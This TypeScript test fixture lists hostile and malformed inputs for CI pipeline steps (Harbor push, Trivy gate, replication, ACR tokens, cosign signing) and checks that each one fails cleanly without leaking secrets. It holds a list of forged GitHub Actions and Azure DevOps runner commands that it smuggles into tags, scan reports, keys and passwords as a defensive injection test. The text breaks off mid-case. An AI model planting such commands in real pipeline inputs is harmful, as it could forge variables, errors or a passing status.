/**
 * Hostile and careless inputs for the bundled steps. Each case names the input whose error it expects (kebab-case,
 * as on GitHub; the suite spells it for Azure DevOps), or a pattern for remote states that no input explains.
 */
import { createHash, generateKeyPairSync, randomBytes, scryptSync } from 'node:crypto';
import { chmodSync, closeSync, mkdirSync, openSync, truncateSync as truncateFile, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import nacl from 'tweetnacl';
import { makeImage } from '../sandbox/make-image';

export type Step = 'push' | 'trivy-gate' | 'replicate' | 'acr-import' | 'acr-token' | 'deploy' | 'sign';
/** html: 200 + a web page to everything; silent: never answers; trickle-registry: see stand-ins/registry.ts. */
export type Server = 'html' | 'silent' | 'trickle-registry' | 'hostile-harbor';

export interface HostileCase {
  name: string;
  step: Step;
  /** Inputs in kebab-case; harbor-url/username/password become a service connection on Azure DevOps. */
  inputs: Record<string, string>;
  /** Point harbor-url (ADO: the connection URL) at a stand-in that answers this way. */
  server?: Server;
  /** The input the one error line must name (kebab-case; per platform when they differ), or null for remote states. */
  input: string | null | { github: string; 'azure-devops': string };
  /** What the error line must also say. */
  says?: RegExp;
  /** Values that must never be shown. */
  secrets?: string[];
  /** Workspace files that must not exist afterwards (nothing half-written). */
  notWritten?: string[];
  platforms?: ('github' | 'azure-devops')[];
  /** Extra environment (e.g. PATH with a fake az). */
  env?: (workspace: string) => Record<string, string>;
  /** The planted commands must show in the log (neutralised): the case reaches the code that logs foreign text. */
  showsPlanted?: boolean;
  /** Files only this case needs (large ones are not written for every case). */
  setup?: (workspace: string) => void;
}

/** Foreign runner commands planted in text the steps read; none may be honoured. */
export const PLANTED = [
  '::error::PWNED forged error',
  '::set-output name=PWNED::1',
  '::add-mask::PWNED',
  '::stop-commands::PWNEDTOKEN',
  'x ##[set-output name=PWNED;]1',
  '##vso[task.setvariable variable=PWNED;isOutput=true]1',
  'y ##vso[task.complete result=Succeeded;]PWNED',
  '##vso[task.logissue type=error]PWNED',
];

const vuln = (severity: unknown, id = 'CVE-2024-0001') => ({
  VulnerabilityID: id,
  PkgName: 'openssl',
  InstalledVersion: '1.0',
  Severity: severity,
});
const trivy = (extra: Record<string, unknown>) =>
  JSON.stringify({
    SchemaVersion: 2,
    ArtifactName: 'app:1',
    Results: [{ Target: 'app', Vulnerabilities: [vuln('HIGH')] }],
    ...extra,
  });

/** Files every case may refer to, relative to the workspace. */
export function writeWorkspace(dir: string): void {
  const put = (path: string, text: string) => {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), text);
  };
  mkdirSync(join(dir, 'a-directory'), { recursive: true });
  put('a-file', 'x');
  put('reports/good.json', trivy({ Results: [] }));
  put('reports/high.json', trivy({}));
  put('reports/lots.json', trivy({ Results: [{ Target: 'app', Vulnerabilities: 'lots' }] }));
  put(
    'reports/severity-5.json',
    trivy({ Results: [{ Target: 'app', Vulnerabilities: [vuln('HIGH'), vuln(5, 'CVE-2024-0002')] }] }),
  );
  put('reports/results-string.json', trivy({ Results: 'x' }));
  put('reports/no-id.json', trivy({ Results: [{ Vulnerabilities: [{ PkgName: 'a', Severity: 'HIGH' }] }] }));
  put('reports/null-vuln.json', trivy({ Results: [{ Vulnerabilities: [null] }] }));
  put('reports/not-json.json', '{"SchemaVersion": 2, "Results": [');
  put('reports/schema-1.json', JSON.stringify({ SchemaVersion: 1, Results: [] }));
  put('reports/array.json', '[]');
  put('reports/injected-artifact.json', trivy({ ArtifactName: `app\n${PLANTED.join('\n')}` }));
  put('reports/injected-version.json', trivy({ Trivy: { Version: `0.50\n${PLANTED.join('\n')}` } }));
  put(
    'reports/injected-target.json',
    trivy({
      ArtifactName: PLANTED.join(' '),
      Results: [{ Target: PLANTED.join('\n'), Vulnerabilities: [vuln('CRITICAL')] }],
    }),
  );
  put('ca/junk.pem', 'this is not a certificate\n');
  put('ca/broken.pem', '-----BEGIN CERTIFICATE-----\nnotbase64\n-----END CERTIFICATE-----\n');
  put('kube/empty', '');
  // An az that is not logged in and leaves a mark when it is run at all.
  put(
    'fake-az/az',
    '#!/bin/sh\ntouch "$(dirname "$0")/../az-called"\necho "ERROR: Please run \'az login\' to setup account." >&2\nexit 1\n',
  );
  chmodSync(join(dir, 'fake-az', 'az'), 0o755);
  writeLayout(join(dir, 'layout'), true);
  writeLayout(join(dir, 'no-marker'), false);
  put('sbom/not-json.cdx.json', '{"bomFormat": "CycloneDX", "components": [');
  put('sbom/trivy-report.json', trivy({}));
  put('sbom/array.json', '[]');
  put('sbom/planted.json', JSON.stringify({ bomFormat: PLANTED.join('\n'), specVersion: PLANTED.join(' ') }));
}

/** A one-image OCI layout (config + empty layer list), with or without its oci-layout marker file. */
function writeLayout(dir: string, marker: boolean): void {
  const blob = (text: string) => {
    const digest = createHash('sha256').update(text).digest('hex');
    mkdirSync(join(dir, 'blobs', 'sha256'), { recursive: true });
    writeFileSync(join(dir, 'blobs', 'sha256', digest), text);
    return { digest: `sha256:${digest}`, size: Buffer.byteLength(text) };
  };
  const config = blob(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] } }));
  const manifest = blob(
    JSON.stringify({
      schemaVersion: 2,
      mediaType: 'application/vnd.oci.image.manifest.v1+json',
      config: { mediaType: 'application/vnd.oci.image.config.v1+json', ...config },
      layers: [],
    }),
  );
  writeFileSync(
    join(dir, 'index.json'),
    JSON.stringify({
      schemaVersion: 2,
      manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', ...manifest }],
    }),
  );
  if (marker) writeFileSync(join(dir, 'oci-layout'), '{"imageLayoutVersion":"1.0.0"}');
}

const harbor = { 'harbor-url': 'https://harbor.invalid', username: 'robot$ci', password: 'Hx9-secret-pw' };

/** A valid P-256 key for the sign cases that are about something else; its body must never be shown either. */
const SIGN_KEY = generateKeyPairSync('ec', { namedCurve: 'prime256v1' })
  .privateKey.export({ type: 'pkcs8', format: 'pem' })
  .toString();
const bodyLines = (pem: string) => pem.split('\n').filter((l) => l && !l.startsWith('-----'));

/**
 * cosign's encrypted key format written from its description (go-securesystemslib encrypted.go: scrypt N=2^15 → a
 * secretbox key; JSON with base64 fields, as PEM), so the suite needs no cosign binary; the integration tests decrypt
 * keys from the real `cosign generate-key-pair`.
 */
function encryptedKey(pkcs8Pem: string, password: string): string {
  const salt = randomBytes(32);
  const nonce = randomBytes(24);
  const key = scryptSync(password, salt, 32, { N: 32768, r: 8, p: 1, maxmem: 256 * 32768 * 8 });
  const der = Buffer.from(pkcs8Pem.replace(/-----[^-]+-----|\s+/g, ''), 'base64');
  const box = nacl.secretbox(new Uint8Array(der), new Uint8Array(nonce), new Uint8Array(key));
  const json = JSON.stringify({
    kdf: { name: 'scrypt', params: { N: 32768, r: 8, p: 1 }, salt: salt.toString('base64') },
    cipher: { name: 'nacl/secretbox', nonce: nonce.toString('base64') },
    ciphertext: Buffer.from(box).toString('base64'),
  });
  const lines = Buffer.from(json)
    .toString('base64')
    .match(/.{1,64}/g)!
    .join('\n');
  return `-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY-----\n${lines}\n-----END ENCRYPTED SIGSTORE PRIVATE KEY-----\n`;
}
const SIGN_PASSWORD = 'Sg-key-pw-4411';
const SIGN_ENCRYPTED = encryptedKey(SIGN_KEY, SIGN_PASSWORD);

/**
 * The hostile Harbor (stand-ins/hostile-harbor.ts over the real emulator): its admin, and the only write its cases
 * may make, which leaves nothing behind: pinging a registry endpoint before saving it.
 */
export const HOSTILE_HARBOR = {
  username: 'admin',
  password: 'Hostile-Adm1n-7731',
  harmlessWrites: /^POST \/api\/v2\.0\/registries\/ping$/,
};
const hostile = {
  'harbor-url': 'set by the suite',
  username: HOSTILE_HARBOR.username,
  password: HOSTILE_HARBOR.password,
};
const push = (extra: Record<string, string>) => ({
  ...harbor,
  source: 'oci:layout',
  project: 'app',
  repository: 'web',
  ...extra,
});
const gate = (extra: Record<string, string>) => ({ 'report-file': 'reports/good.json', ...extra });
const gateHarbor = (extra: Record<string, string>) => ({
  ...harbor,
  project: 'app',
  repository: 'web',
  reference: 'v1',
  ...extra,
});
const policy = (extra: Record<string, string>) => ({
  ...harbor,
  'policy-name': 'to-replica',
  direction: 'push',
  'registry-name': 'replica',
  'name-filter': 'app/**',
  ...extra,
});
const acrImport = (extra: Record<string, string>) => ({
  ...harbor,
  'resource-group': 'rg',
  registry: 'contosoregistry',
  ...extra,
});
const token = (extra: Record<string, string>) => ({
  'resource-group': 'rg',
  registry: 'contosoregistry',
  repositories: 'app/web',
  token: 'ci-token',
  ...extra,
});
const deploy = (extra: Record<string, string>) => ({
  profile: 'managed-disks',
  hostname: 'harbor.example.com',
  'admin-password': 'Adm1n-Pa55-unit',
  ...extra,
});
const sign = (extra: Record<string, string>) => ({
  ...harbor,
  repository: 'app/web',
  reference: '1.0',
  'cosign-key': SIGN_KEY,
  ...extra,
});
const signSecrets = [harbor.password, ...bodyLines(SIGN_KEY)];
const githubOnly: HostileCase['platforms'] = ['github'];

export const CASES: HostileCase[] = [
  // push: inputs
  {
    name: "tags '#v1' is a value, not a comment",
    step: 'push',
    inputs: push({ tags: '#v1' }),
    input: 'tags',
    says: /'#v1' is not a valid tag/,
  },
  {
    name: 'tags that hold nothing',
    step: 'push',
    inputs: push({ tags: ' , \n ,' }),
    input: 'tags',
    says: /holds no values/,
  },
  { name: 'a tag with a space', step: 'push', inputs: push({ tags: 'v1 beta' }), input: 'tags' },
  { name: 'a tag with a planted command', step: 'push', inputs: push({ tags: 'v1\n::error::PWNED' }), input: 'tags' },
  { name: 'source of an unknown kind', step: 'push', inputs: push({ source: 'ftp:thing' }), input: 'source' },
  { name: 'source without a path', step: 'push', inputs: push({ source: 'oci:' }), input: 'source' },
  { name: 'source layout that does not exist', step: 'push', inputs: push({ source: 'oci:nowhere' }), input: 'source' },
  {
    name: 'source layout without its oci-layout file',
    step: 'push',
    inputs: push({ source: 'oci:no-marker' }),
    input: 'source',
    says: /oci-layout/,
  },
  {
    name: 'source archive that is a directory',
    step: 'push',
    inputs: push({ source: 'docker-archive:a-directory' }),
    input: 'source',
  },
  {
    name: 'source archive that does not exist',
    step: 'push',
    inputs: push({ source: 'docker-archive:missing.tar' }),
    input: 'source',
  },
  { name: 'source chart that is not a chart', step: 'push', inputs: push({ source: 'chart:a-file' }), input: 'source' },
  { name: 'timeout 0', step: 'push', inputs: push({ timeout: '0' }), input: 'timeout', says: /longer than 0/ },
  { name: 'timeout 0s', step: 'push', inputs: push({ timeout: '0s' }), input: 'timeout' },
  { name: 'timeout in words', step: 'push', inputs: push({ timeout: 'soon' }), input: 'timeout' },
  { name: 'compression that does not exist', step: 'push', inputs: push({ compression: 'zip' }), input: 'compression' },
  { name: "create-project 'yes'", step: 'push', inputs: push({ 'create-project': 'yes' }), input: 'create-project' },
  { name: 'chunk-size in words', step: 'push', inputs: push({ 'chunk-size': 'huge' }), input: 'chunk-size' },
  { name: 'concurrency below 1', step: 'push', inputs: push({ concurrency: '0' }), input: 'concurrency' },
  {
    name: 'a CA file that holds junk',
    step: 'push',
    inputs: push({ 'ca-file': 'ca/junk.pem' }),
    input: 'ca-file',
    says: /no PEM certificate/,
  },
  {
    name: 'a CA file with a broken certificate',
    step: 'push',
    inputs: push({ 'ca-file': 'ca/broken.pem' }),
    input: 'ca-file',
    says: /no PEM certificate/,
  },
  {
    name: 'a CA file that is a directory',
    step: 'push',
    inputs: push({ 'ca-file': 'a-directory' }),
    input: 'ca-file',
    says: /directory/,
  },
  { name: 'a CA file that does not exist', step: 'push', inputs: push({ 'ca-file': 'ca/none.pem' }), input: 'ca-file' },
  {
    name: 'credentials inside the Harbor URL',
    step: 'push',
    inputs: push({ 'harbor-url': 'https://robot:Url-Pw-7781@harbor.invalid' }),
    input: { github: 'harbor-url', 'azure-devops': 'harborConnection' },
    says: /must not contain credentials/,
    secrets: ['Url-Pw-7781'],
  },
  {
    name: 'a password on two lines',
    step: 'push',
    inputs: push({ password: 'Two-Line-Pw1\nSecond-Line-Pw2' }),
    input: { github: 'password', 'azure-devops': 'harborConnection' },
    says: /single line/,
    secrets: ['Two-Line-Pw1', 'Second-Line-Pw2'],
  },
  { name: 'repository with upper case', step: 'push', inputs: push({ repository: 'Web' }), input: 'repository' },
  { name: 'a tag of 129 characters', step: 'push', inputs: push({ tags: `v${'1'.repeat(128)}` }), input: 'tags' },
  { name: 'a tag starting with a dot', step: 'push', inputs: push({ tags: '.hidden' }), input: 'tags' },
  {
    name: 'mount-from that is not a repository',
    step: 'push',
    inputs: push({ 'mount-from': 'lib/base, Bad' }),
    input: 'mount-from',
  },
  {
    name: 'chunk-size below 1MiB',
    step: 'push',
    inputs: push({ 'chunk-size': '512KiB' }),
    input: 'chunk-size',
    says: /at least 1MiB/,
  },
  { name: 'concurrency above 16', step: 'push', inputs: push({ concurrency: '17' }), input: 'concurrency' },
  {
    name: 'a Harbor URL that is not http(s)',
    step: 'push',
    inputs: push({ 'harbor-url': 'ftp://harbor.invalid' }),
    input: { github: 'harbor-url', 'azure-devops': 'harborConnection' },
  },
  { name: 'project with a slash', step: 'push', inputs: push({ project: 'a/b' }), input: 'project' },
  // push: remote states
  {
    name: 'a registry that reads an upload a trickle at a time, timeout 10s (the whole step, not one request)',
    step: 'push',
    // 10 s, not less: on a loaded machine a shorter budget can run out before the upload starts, and then the case
    // would not show the upload being cut off. The layer still needs far longer than 10 s at the trickle's pace.
    inputs: push({ source: 'oci:big-layout', 'create-project': 'false', timeout: '10s' }),
    server: 'trickle-registry',
    input: 'timeout',
    // Cut while sending, or (when a silence limit fired first) refused the wait for another attempt: both the budget's.
    says: /^'timeout' \(10 s\) ran out (waiting for (PUT|PATCH) |while the upload of )/,
    // Random bytes do not compress: ~8 MiB the stand-in reads far slower than the budget allows.
    setup: (workspace) => void makeImage({ dir: join(workspace, 'big-layout'), layerSize: 8 * 1024 * 1024 }),
  },
  {
    name: 'a server that answers HTML 200 everywhere',
    step: 'push',
    inputs: push({}),
    server: 'html',
    input: null,
    says: /answered HTML/,
  },

  // trivy-gate: reports
  {
    name: 'Vulnerabilities is a string',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/lots.json' }),
    input: 'report-file',
    says: /\$\.Results\[0\]\.Vulnerabilities must be an array/,
  },
  {
    name: 'Severity is a number',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/severity-5.json' }),
    input: 'report-file',
    says: /Vulnerabilities\[1\]\.Severity must be one of/,
  },
  {
    name: 'Results is a string',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/results-string.json' }),
    input: 'report-file',
    says: /\$\.Results must be an array/,
  },
  {
    name: 'a vulnerability without id',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/no-id.json' }),
    input: 'report-file',
    says: /VulnerabilityID/,
  },
  {
    name: 'a null vulnerability',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/null-vuln.json' }),
    input: 'report-file',
    says: /must be an object/,
  },
  {
    name: 'a truncated report',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/not-json.json' }),
    input: 'report-file',
    says: /not valid JSON/,
  },
  {
    name: 'SchemaVersion 1',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/schema-1.json' }),
    input: 'report-file',
  },
  {
    name: 'a report that is an array',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/array.json' }),
    input: 'report-file',
  },
  {
    name: 'report-file that is a directory',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'a-directory' }),
    input: 'report-file',
    says: /directory/,
  },
  {
    name: 'report-file that does not exist',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/none.json' }),
    input: 'report-file',
  },
  // trivy-gate: outputs are checked before anything is written
  {
    name: 'junit-file is a directory',
    step: 'trivy-gate',
    inputs: gate({ 'sarif-file': 'out/r.sarif', 'junit-file': 'a-directory' }),
    input: 'junit-file',
    notWritten: ['out/r.sarif'],
  },
  {
    name: 'junit-file below a file',
    step: 'trivy-gate',
    inputs: gate({ 'sarif-file': 'out/r.sarif', 'junit-file': 'a-file/junit.xml' }),
    input: 'junit-file',
    notWritten: ['out/r.sarif'],
  },
  {
    name: 'sarif-file is a directory',
    step: 'trivy-gate',
    inputs: gate({ 'json-file': 'out/r.json', 'sarif-file': 'a-directory' }),
    input: 'sarif-file',
    notWritten: ['out/r.json'],
  },
  {
    name: 'two reports into one file',
    step: 'trivy-gate',
    inputs: gate({ 'sarif-file': 'out/same', 'junit-file': 'out/same' }),
    input: 'junit-file',
    notWritten: ['out/same'],
  },
  // trivy-gate: inputs
  { name: "fail-on 'severe'", step: 'trivy-gate', inputs: gate({ 'fail-on': 'severe' }), input: 'fail-on' },
  { name: 'max-high in words', step: 'trivy-gate', inputs: gate({ 'max-high': 'lots' }), input: 'max-high' },
  { name: 'max-critical below 0', step: 'trivy-gate', inputs: gate({ 'max-critical': '-1' }), input: 'max-critical' },
  { name: 'max-low as a fraction', step: 'trivy-gate', inputs: gate({ 'max-low': '1.5' }), input: 'max-low' },
  { name: "scan 'sometimes'", step: 'trivy-gate', inputs: gateHarbor({ scan: 'sometimes' }), input: 'scan' },
  {
    name: "ignore-unfixed 'yes'",
    step: 'trivy-gate',
    inputs: gate({ 'ignore-unfixed': 'yes' }),
    input: 'ignore-unfixed',
  },
  {
    name: 'a report and a Harbor artifact',
    step: 'trivy-gate',
    inputs: gateHarbor({ 'report-file': 'reports/good.json' }),
    input: 'report-file',
  },
  {
    name: 'a reference that is neither tag nor digest',
    step: 'trivy-gate',
    inputs: gateHarbor({ reference: 'v1 beta' }),
    input: 'reference',
  },
  { name: 'half a Harbor artifact', step: 'trivy-gate', inputs: { ...harbor, project: 'app' }, input: 'repository' },
  { name: 'gate timeout 0', step: 'trivy-gate', inputs: gateHarbor({ timeout: '0' }), input: 'timeout' },
  {
    name: 'gate on-scan-error maybe',
    step: 'trivy-gate',
    inputs: gateHarbor({ 'on-scan-error': 'maybe' }),
    input: 'on-scan-error',
  },
  {
    name: 'ignore-file that is a directory',
    step: 'trivy-gate',
    inputs: gate({ 'ignore-file': 'a-directory' }),
    input: 'ignore-file',
  },
  // trivy-gate: foreign text in a report is shown, never acted on; the gate still fails on the finding
  {
    name: 'planted commands in ArtifactName',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/injected-artifact.json' }),
    input: 'fail-on',
  },
  {
    name: 'planted commands in Trivy.Version',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/injected-version.json' }),
    input: 'fail-on',
  },
  {
    name: 'planted commands in Target',
    step: 'trivy-gate',
    inputs: gate({ 'report-file': 'reports/injected-target.json', 'junit-file': 'out/j.xml' }),
    input: 'fail-on',
  },
  // trivy-gate: remote states
  {
    name: 'a Harbor that never answers, timeout 2s',
    step: 'trivy-gate',
    inputs: gateHarbor({ timeout: '2s' }),
    server: 'silent',
    input: 'timeout',
    says: /ran out/,
  },
  {
    name: 'a Harbor that answers HTML 200',
    step: 'trivy-gate',
    inputs: gateHarbor({}),
    server: 'html',
    input: null,
    says: /answered HTML, not JSON/,
  },
  {
    name: 'credentials inside the gate Harbor URL',
    step: 'trivy-gate',
    inputs: gateHarbor({ 'harbor-url': 'https://robot:Gate-Pw-5521@harbor.invalid' }),
    input: { github: 'harbor-url', 'azure-devops': 'harborConnection' },
    secrets: ['Gate-Pw-5521'],
  },

  // replicate
  {
    name: 'dest-namespace with a space and capitals',
    step: 'replicate',
    inputs: policy({ 'dest-namespace': 'Bad NS' }),
    input: 'dest-namespace',
  },
  {
    name: 'dest-namespace with a planted command',
    step: 'replicate',
    inputs: policy({ 'dest-namespace': 'ns ##vso[task.setvariable variable=PWNED]1' }),
    input: 'dest-namespace',
  },
  {
    name: 'tag-match without tag-filter (policy)',
    step: 'replicate',
    inputs: policy({ 'tag-match': 'excludes' }),
    input: 'tag-match',
  },
  {
    name: 'tag-match without tag-filter (acr-import)',
    step: 'acr-import',
    inputs: {
      ...harbor,
      'resource-group': 'rg',
      registry: 'contosoregistry',
      'name-filter': 'app/**',
      'tag-match': 'excludes',
    },
    input: 'tag-match',
  },
  {
    name: 'acr-import with neither images nor name-filter',
    step: 'acr-import',
    inputs: acrImport({}),
    input: 'images',
  },
  {
    name: 'acr-import with both images and name-filter',
    step: 'acr-import',
    inputs: acrImport({ images: 'app/web:1.0', 'name-filter': 'app/**' }),
    input: 'name-filter',
  },
  {
    name: 'acr-import registry given as a login server',
    step: 'acr-import',
    inputs: acrImport({ images: 'app/web:1.0', registry: 'contoso.azurecr.io' }),
    input: 'registry',
  },
  {
    name: 'acr-import target-repository-prefix with a space',
    step: 'acr-import',
    inputs: acrImport({ images: 'app/web:1.0', 'target-repository-prefix': 'from harbor' }),
    input: 'target-repository-prefix',
  },
  {
    name: "acr-import import-mode 'Overwrite'",
    step: 'acr-import',
    inputs: acrImport({ images: 'app/web:1.0', 'import-mode': 'Overwrite' }),
    input: 'import-mode',
  },
  {
    name: 'acr-import parallel-imports 0',
    step: 'acr-import',
    inputs: acrImport({ images: 'app/web:1.0', 'parallel-imports': '0' }),
    input: 'parallel-imports',
  },
  {
    name: 'acr-import timeout 0',
    step: 'acr-import',
    inputs: acrImport({ images: 'app/web:1.0', timeout: '0' }),
    input: 'timeout',
  },
  { name: 'replicate timeout 0', step: 'replicate', inputs: policy({ timeout: '0' }), input: 'timeout' },
  {
    name: 'a five-field cron',
    step: 'replicate',
    inputs: policy({ trigger: 'scheduled', cron: '0 * * * *' }),
    input: 'cron',
  },
  { name: 'direction sideways', step: 'replicate', inputs: policy({ direction: 'sideways' }), input: 'direction' },
  { name: 'flattening in words', step: 'replicate', inputs: policy({ flattening: 'some' }), input: 'flattening' },
  { name: "run 'yes'", step: 'replicate', inputs: policy({ run: 'yes' }), input: 'run' },
  {
    name: 'registry-type that Harbor has no adapter for',
    step: 'replicate',
    inputs: policy({ 'registry-url': 'https://r.invalid', 'registry-type': 'ftp' }),
    input: 'registry-type',
  },
  {
    name: 'a registry URL that is not http(s)',
    step: 'replicate',
    inputs: policy({ 'registry-url': 'ftp://r.invalid', 'registry-type': 'docker-registry' }),
    input: 'registry-url',
  },
  {
    name: 'registry URL with credentials',
    step: 'replicate',
    inputs: policy({ 'registry-url': 'https://u:Reg-Pw-3310@r.invalid', 'registry-type': 'docker-registry' }),
    input: 'registry-url',
    secrets: ['Reg-Pw-3310'],
  },
  {
    name: 'registry password on two lines',
    step: 'replicate',
    inputs: policy({
      'registry-url': 'https://r.invalid',
      'registry-type': 'docker-registry',
      'registry-username': 'u',
      'registry-password': 'Reg-Line-1\nReg-Line-2',
    }),
    input: 'registry-password',
    secrets: ['Reg-Line-1', 'Reg-Line-2'],
  },
  {
    name: 'a Harbor that answers HTML 200 (nothing written)',
    step: 'replicate',
    inputs: policy({}),
    server: 'html',
    input: null,
    says: /answered HTML/,
  },
  {
    name: 'a replicate Harbor that never answers, timeout 2s',
    step: 'replicate',
    inputs: policy({ timeout: '2s' }),
    server: 'silent',
    input: 'timeout',
    says: /ran out/,
  },

  // acr-token
  {
    name: 'password-expiry on February 30th',
    step: 'acr-token',
    inputs: token({ 'password-expiry': '2027-02-30' }),
    input: 'password-expiry',
    says: /not a valid ISO date/,
  },
  {
    name: 'password-expiry on month 13',
    step: 'acr-token',
    inputs: token({ 'password-expiry': '2027-13-01' }),
    input: 'password-expiry',
  },
  {
    name: 'password-expiry in words',
    step: 'acr-token',
    inputs: token({ 'password-expiry': 'soon' }),
    input: 'password-expiry',
  },
  {
    name: 'password-expiry in the past',
    step: 'acr-token',
    inputs: token({ 'password-expiry': '2001-01-01' }),
    input: 'password-expiry',
  },
  {
    name: 'registry name with a dot',
    step: 'acr-token',
    inputs: token({ registry: 'contoso.azurecr.io' }),
    input: 'registry',
  },
  { name: 'acr-token timeout 0', step: 'acr-token', inputs: token({ timeout: '0' }), input: 'timeout' },
  {
    name: 'repositories that are all comments',
    step: 'acr-token',
    inputs: token({ repositories: '# app/web' }),
    input: 'repositories',
  },
  { name: "rotate 'yes'", step: 'acr-token', inputs: token({ rotate: 'yes' }), input: 'rotate' },
  { name: 'a token name with a space', step: 'acr-token', inputs: token({ token: 'ci token' }), input: 'token' },
  {
    name: 'a resource group with a slash',
    step: 'acr-token',
    inputs: token({ 'resource-group': 'rg/other' }),
    input: 'resource-group',
  },
  {
    name: 'status that is neither enabled nor disabled',
    step: 'acr-token',
    inputs: token({ status: 'paused' }),
    input: 'status',
  },
  {
    name: 'no service connection on Azure DevOps: never the agent machine’s own az login',
    step: 'acr-token',
    inputs: token({}),
    input: 'azureSubscription',
    says: /never signs in with the agent machine's own Azure CLI login/,
    env: (workspace) => ({ PATH: `${join(workspace, 'fake-az')}:${process.env.PATH}` }),
    notWritten: ['az-called'],
    platforms: ['azure-devops'],
  },
  {
    name: 'GitHub without azure/login: the advice names the OIDC inputs',
    step: 'acr-token',
    inputs: token({}),
    input: 'client-id',
    says: /run azure\/login before this step, or set client-id and tenant-id/,
    env: (workspace) => ({ PATH: `${join(workspace, 'fake-az')}:${process.env.PATH}` }),
    platforms: githubOnly,
  },
  {
    name: 'credentials inside the Harbor URL to register in',
    step: 'acr-token',
    inputs: token({ 'register-in-harbor': 'true', 'harbor-url': 'https://admin:Reg-In-Pw-99@harbor.invalid' }),
    input: { github: 'harbor-url', 'azure-devops': 'harborConnection' },
    secrets: ['Reg-In-Pw-99'],
  },

  // A hostile Harbor (stand-ins/hostile-harbor.ts): runner commands planted in what Harbor and its scanner say
  {
    name: 'a scanner whose job log plants runner commands (the scan ended in Error)',
    step: 'trivy-gate',
    // scan: never gates on the report Harbor has (a rescan by both platforms' runs at once would race for its log).
    inputs: { ...hostile, project: 'library', repository: 'broken', reference: 'v1', scan: 'never' },
    server: 'hostile-harbor',
    input: null,
    says: /ended in Error/,
    showsPlanted: true,
    secrets: [HOSTILE_HARBOR.password],
  },
  {
    name: 'a vulnerability report whose package, fix version, description and scanner plant runner commands',
    step: 'trivy-gate',
    inputs: { ...hostile, project: 'library', repository: 'vulnerable', reference: 'v1', 'json-file': 'out/r.json' },
    server: 'hostile-harbor',
    input: 'fail-on',
    showsPlanted: true,
    secrets: [HOSTILE_HARBOR.password],
  },
  {
    name: "Harbor's not-found message plants runner commands",
    step: 'trivy-gate',
    inputs: { ...hostile, project: 'library', repository: 'missing', reference: 'v1' },
    server: 'hostile-harbor',
    input: null,
    secrets: [HOSTILE_HARBOR.password],
  },
  {
    name: "Harbor's registry ping failure plants runner commands",
    step: 'replicate',
    inputs: policy({
      ...hostile,
      'registry-name': 'unreachable',
      'registry-url': 'http://127.0.0.1:1',
      'registry-type': 'docker-registry',
    }),
    server: 'hostile-harbor',
    input: null,
    secrets: [HOSTILE_HARBOR.password],
  },

  // sign: the key, its password, the SBOM and the reference are all judged before the first request
  {
    name: 'cosign-key that is not PEM',
    step: 'sign',
    inputs: sign({ 'cosign-key': 'c2lnbi1tZS1wbGVhc2U=' }),
    input: 'cosign-key',
    says: /not a PEM private key/,
    secrets: ['c2lnbi1tZS1wbGVhc2U='],
  },
  {
    name: 'cosign-key whose PEM body is broken',
    step: 'sign',
    inputs: sign({
      'cosign-key': '-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEI!!not*base64\n-----END EC PRIVATE KEY-----\n',
    }),
    input: 'cosign-key',
    says: /cannot be parsed/,
  },
  {
    name: 'cosign-key cut off before its END line',
    step: 'sign',
    inputs: sign({ 'cosign-key': SIGN_KEY.split('\n').slice(0, 3).join('\n') }),
    input: 'cosign-key',
    secrets: bodyLines(SIGN_KEY).slice(0, 2),
  },
  {
    name: 'cosign-key with runner commands planted around and inside its PEM block',
    step: 'sign',
    inputs: sign({
      'cosign-key': [
        ...PLANTED,
        '-----BEGIN EC PRIVATE KEY-----',
        'Proc-Type: 4,ENCRYPTED',
        ...PLANTED,
        ...bodyLines(SIGN_KEY),
        '-----END EC PRIVATE KEY-----',
        ...PLANTED,
      ].join('\n'),
    }),
    input: 'cosign-key',
    // Every line of the key input is masked (it is a secret as a whole), the planted ones too.
    secrets: [...bodyLines(SIGN_KEY), ...PLANTED],
  },
  {
    name: 'cosign-key with a planted command in its PEM type',
    step: 'sign',
    inputs: sign({
      'cosign-key': SIGN_KEY.replace(/PRIVATE KEY/g, 'PRIVATE KEY ##vso[task.setvariable variable=PWNED]1'),
    }),
    input: 'cosign-key',
    secrets: bodyLines(SIGN_KEY),
  },
  {
    name: 'cosign-key that is a P-384 key',
    step: 'sign',
    inputs: sign({
      'cosign-key': generateKeyPairSync('ec', { namedCurve: 'secp384r1' })
        .privateKey.export({ type: 'sec1', format: 'pem' })
        .toString(),
    }),
    input: 'cosign-key',
    says: /P-256/,
  },
  {
    name: 'cosign-key that is a public key',
    step: 'sign',
    inputs: sign({
      'cosign-key': generateKeyPairSync('ec', { namedCurve: 'prime256v1' })
        .publicKey.export({ type: 'spki', format: 'pem' })
        .toString(),
    }),
    input: 'cosign-key',
  },
  {
    name: 'an encrypted cosign key without its password',
    step: 'sign',
    inputs: sign({ 'cosign-key': SIGN_ENCRYPTED }),
    input: 'cosign-key-password',
    secrets: bodyLines(SIGN_ENCRYPTED),
  },
  {
    name: 'cosign-key-password with runner commands planted in it',
    step: 'sign',
    inputs: sign({ 'cosign-key': SIGN_ENCRYPTED, 'cosign-key-password': `pw ${PLANTED.join(' ')}` }),
    input: 'cosign-key-password',
    says: /does not decrypt/,
    secrets: [`pw ${PLANTED.join(' ')}`, SIGN_PASSWORD, ...bodyLines(SIGN_ENCRYPTED)],
  },
  {
    name: 'cosign-key-password on two lines, the second a planted command',
    step: 'sign',
    inputs: sign({
      'cosign-key': SIGN_ENCRYPTED,
